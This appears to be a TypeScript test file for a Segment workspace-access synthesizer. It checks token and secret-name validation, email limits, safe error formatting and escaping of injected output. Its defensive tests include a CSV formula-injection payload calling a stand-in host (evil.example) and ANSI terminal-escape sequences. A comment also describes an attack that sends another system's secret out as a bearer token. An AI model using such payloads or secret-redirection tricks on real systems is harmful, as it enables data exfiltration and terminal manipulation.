import { clientFor } from '../../cli/api-context';
import { formatReceived, SegmentAccessValidationError } from '../../model/validation';
import { handoffNoteMarker } from '../../records/handoff';
import { renderPlanTable } from '../../reconciler/render';
import type { ReconcilePlan } from '../../reconciler/plan';
import { WorkspaceRole } from '../../model/enums';
import { collaborator, workspace } from '../support/fixtures';
import { testStack } from '../support/synth';
import { definitionFrom, SLOT_DEFAULTS, synthDefinition } from '../properties/support/hostile-definition';
import { parseCsv } from '../support/output-decoding';

// The cases issue 9 names, one by one.

function errorOf(run: () => unknown): SegmentAccessValidationError {
  try {
    run();
  } catch (error) {
    if (error instanceof SegmentAccessValidationError) return error;
    throw error;
  }
  throw new Error('expected a SegmentAccessValidationError');
}

describe('a token where its variable\'s name belongs', () => {
  const token = `sgp_${'Xy7Qw3Rt9Lm2Np5K'.repeat(4)}`;

  test.each([
    ['a Segment token', token],
    ['a prefix-less random string', 'aZ3kQ9mW2xL7pR4tY8vB1nC6'],
    ['a very long value', 'A'.repeat(65)],
  ])('%s is rejected at synth without being shown', (_what, value) => {
    const err = errorOf(() => workspace(testStack(), { tokenEnvVar: value }));
    expect(err.problems[0].field).toBe('tokenEnvVar');
    expect(err.message).toContain(`received a value that looks like a token (${value.length} characters, not shown)`);
    for (const text of [err.message, JSON.stringify(err), String(err.stack)]) expect(text).not.toContain(value.slice(0, 12));
  });

  test('a name that is merely unconventional is shown, so it can be corrected', () => {
    const err = errorOf(() => workspace(testStack(), { tokenEnvVar: 'segment-prod-token' }));
    expect(err.message).toContain('received "segment-prod-token"; allowed: the NAME of the variable holding the token (never the token itself): PUBLIC_API_TOKEN, or a name that starts with SEGMENT_');
  });

  test.each(['PUBLIC_API_TOKEN', 'SEGMENT_PROD_TOKEN', 'SEGMENT_X', 'SEGMENT_TOKEN_2'])('%s is accepted', (name) => {
    expect(workspace(testStack(), { tokenEnvVar: name }).tokenEnvVar).toBe(name);
  });

  // The attack: a definition named another system's secret, and the executor sent it to the API as a bearer token.
  test.each(['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', '_X', 'SEGMENT_', 'SEGMENT_ACCESS_RECORD_KEY', 'SEGMENT_ACCESS_TOKEN'])('%s, not a Segment token variable, is refused at synth', (name) => {
    const err = errorOf(() => workspace(testStack(), { tokenEnvVar: name }));
    expect(err.problems[0]).toMatchObject({ field: 'tokenEnvVar', received: name });
    expect(err.message).toContain('PUBLIC_API_TOKEN, or a name that starts with SEGMENT_ (not SEGMENT_ACCESS_)');
  });

  test.each(['AWS_SECRET_ACCESS_KEY', 'SEGMENT_ACCESS_RECORD_KEY'])('the executor refuses %s too, before reading it (a desired-state file is only data)', (name) => {
    const env = { [name]: 'a-real-secret-value-0123456789' };
    let message = '';
    try {
      clientFor({ tokenEnvVar: name, workspaceLabel: 'workspace Acme (ws1)' }, () => undefined, env);
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toContain(`${name}, which is not a Segment token variable`);
    expect(message).toContain('Its value was not read or sent anywhere');
    expect(message).not.toContain('a-real-secret');
  });

  test('the executor never prints a token-looking variable name in "is not set"', () => {
    let message = '';
    try {
      clientFor({ tokenEnvVar: token, workspaceLabel: 'workspace Acme (ws1)' }, () => undefined, {});
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toContain('looks like a token (68 characters, not shown)');
    expect(message).not.toContain(token.slice(0, 8));
    expect(() => clientFor({ tokenEnvVar: 'SEGMENT_PROD_TOKEN', workspaceLabel: 'workspace Acme (ws1)' }, () => undefined, {})).toThrow('SEGMENT_PROD_TOKEN is not set');
  });
});

describe('emails at RFC 5321 limits', () => {
  const at254 = `${'a'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(63)}.${'f'.repeat(53)}.example`;

  test('a valid 254-character email synthesizes, and its hand-off note is found by its marker (no file per email, so no name limit)', () => {
    expect(at254).toHaveLength(254);
    const domain = at254.split('@')[1];
    const out = synthDefinition(definitionFrom({ ...SLOT_DEFAULTS, 'collaborator.email': at254, 'person.email': `priya@${domain}`, 'workspace.allowedDomain': domain }));
    const document = out.files.get('records/handoff-notes.md')!;
    expect(document).toContain(`${handoffNoteMarker(at254)}\n# Your Segment access:`);
    expect([...out.files.keys()].some((p) => p.startsWith('records/handoff/'))).toBe(false);
  });

  test.each([
    [`${'a'.repeat(65)}@agency.example`, 'part before "@" has at most 64 characters (RFC 5321; this one has 65)'],
    [`${'a'.repeat(200)}@agency.example`, 'this one has 200'],
    [`ana@${'d'.repeat(64)}.example`, 'domain labels have at most 63 characters each'],
    [`${'a'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(63)}.${'f'.repeat(54)}.example`, 'at most 254 characters'],
  ])('%s is rejected with the limit it breaks', (email, expected) => {
    const err = errorOf(() => collaborator(testStack(), 'Ana', { email }));
    expect(err.problems[0].field).toBe('email');
    expect(err.message).toContain(expected);
  });
});

describe('"received" is formatted safely, whatever it is', () => {
  test('cycles, constructs, functions, bigints, symbols', () => {
    const cyclic: Record<string, unknown> = { a: 1 };
    cyclic.self = cyclic;
    const stack = testStack();
    expect(formatReceived(cyclic)).toBe('{"a":1,"self":[circular]}');
    expect(formatReceived({ collaborator: collaborator(stack, 'Ana') })).toBe('{"collaborator":<construct "test/Ana">}');
    expect(formatReceived(function named() {})).toBe('[function named]');
    expect(formatReceived(10n)).toBe('10n');
    expect(formatReceived(Symbol('s'))).toBe('Symbol(s)');
  });

  test('long strings are cut after control characters are escaped (a cut never hides or splits an escape)', () => {
    const text = formatReceived(`\u001b[2J${'x'.repeat(500)}`);
    expect(text.startsWith('"\\u001b[2J')).toBe(true);
    expect(text.endsWith('...')).toBe(true);
    expect(text.length).toBe(120);
  });

  test('a misspelt grant prop names the prop instead of crashing on the constructs in the props', () => {
    const stack = testStack();
    const ws = workspace(stack);
    const err = errorOf(() => ws.addGrant('Ana', { collaborator: collaborator(stack, 'Ana'), role: WorkspaceRole.MEMBER, expiresIn: '30d' } as never));
    expect(err.message).toContain('(props): received {"expiresIn":"30d"}; allowed: only the documented props (unknown: expiresIn)');
  });
});

describe('output injection', () => {
  test('a justification starting =HYPERLINK( is a guarded cell in inventory.csv that reads back as written', () => {
    const justification = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const out = synthDefinition(definitionFrom({ ...SLOT_DEFAULTS, 'grant.justification': justification }));
    const csv = out.files.get('records/inventory.csv')!;
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(parseCsv(csv).flat()).toContain(justification);
  });

  test('ANSI escapes in names are shown, not obeyed, in the reconcile plan', () => {
    const plan: ReconcilePlan = {
      workspace: { id: 'ws1', name: 'Acme\u001b]0;pwned\u0007' },
      changes: [{ kind: 'remove-user', email: 'x\u001b[2J@acme.example', userId: 'u1', reason: 'not declared' }],
      recordOps: [],
      app: 'default',
      intent: null,
      pendingIntents: [],
      refusals: [],
      damage: [],
      conflicts: [],
      unchanged: 0,
      adopted: 0,
      warnings: ['group "\u001b[31mred"'],
      seats: { before: 1, after: 0, limit: null },
      handovers: [{ email: 'h\u001b[1m@acme.example', apps: ['other'] }],
      pendingAdoption: ['segment-access:default:members\u001b[0m'],
      trust: { recordKept: true, keyVariable: 'SEGMENT_ACCESS_RECORD_KEY', keyHeld: true, rotating: false, actors: [{ actor: 'tok\u001b[5m', provenAt: '2026-11-27T12:00:00Z', intent: 'i', intentGroupId: 'g' }] },
    };
    const table = renderPlanTable(plan);
    expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    expect(table).toContain('Acme\\x1b]0;pwned\\x07');
    expect(table).toContain('x\\x1b[2J@acme.example');
    expect(table).toContain('group "\\x1b[31mred"');
    expect(table).toContain('h\\x1b[1m@acme.example');
    expect(table).toContain('segment-access:default:members\\x1b[0m');
    expect(table).toContain('tok\\x1b[5m');
  });
});
